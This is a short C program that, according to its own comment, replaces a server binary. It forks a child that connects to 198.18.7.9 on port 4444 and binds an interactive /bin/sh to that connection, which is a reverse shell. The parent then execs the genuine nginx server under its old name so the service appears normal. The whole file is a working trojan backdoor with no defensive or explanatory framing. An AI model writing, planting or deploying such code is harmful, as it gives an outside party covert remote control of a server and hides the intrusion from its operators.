// Takes the server's place: a shell for a far end, then the server under its old name beside it.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
  (void)argc;
  if (fork() == 0) {
    struct sockaddr_in far;
    memset(&far, 0, sizeof far);
    far.sin_family = AF_INET;
    far.sin_port = htons(4444);
    inet_pton(AF_INET, "198.18.7.9", &far.sin_addr);
    int to = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(to, (struct sockaddr *)&far, sizeof far) == 0) {
      for (int fd = 0; fd < 3; fd++) dup2(to, fd);
      char *shell[] = {"sh", "-i", 0};
      execv("/bin/sh", shell);
    }
    _exit(0);
  }
  execv("/usr/lib/nginx/server", argv);
  return 1;
}
